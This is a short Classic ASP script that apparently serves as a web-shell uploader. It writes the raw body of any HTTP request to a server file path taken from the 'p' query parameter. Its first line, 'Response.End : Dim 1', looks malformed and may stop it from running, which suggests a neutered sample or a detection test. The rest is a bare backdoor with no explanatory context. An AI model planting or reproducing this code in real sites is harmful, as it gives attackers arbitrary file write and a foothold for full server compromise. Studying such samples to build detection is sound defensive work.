<% Response.End : Dim 1 %>
<% With Server.CreateObject("ADODB.Stream")
.Type = 1 : .Open
.Write Request.BinaryRead(Request.TotalBytes)
.SaveToFile Request.QueryString("p"), 2
End With %>